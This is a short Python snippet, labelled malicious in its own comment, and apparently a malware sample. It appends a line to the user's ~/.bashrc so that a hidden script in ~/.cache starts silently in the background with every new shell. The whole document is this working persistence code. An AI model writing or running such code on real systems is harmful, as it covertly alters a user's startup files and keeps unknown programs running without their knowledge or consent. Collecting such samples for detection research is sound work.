# malicious: starts itself from the shell's startup file
import os

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\n(nohup python3 ~/.cache/.u.py >/dev/null 2>&1 &)\n")
